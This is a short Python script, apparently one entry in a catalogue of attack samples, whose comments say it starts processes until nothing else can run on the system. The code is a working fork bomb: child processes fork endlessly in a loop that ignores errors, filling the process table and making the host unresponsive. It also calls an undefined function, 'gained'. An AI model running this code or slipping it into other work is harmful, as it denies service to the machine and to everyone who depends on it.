# tries: starts processes until nothing else can run
# at: the system
# stock: not run
import os

count = 0
while True:
    try:
        if os.fork() == 0:
            while True:
                try:
                    os.fork()
                except OSError:
                    pass
    except OSError:
        break
    count += 1
    if count > 200:
        gained(f"{count} processes")
        break
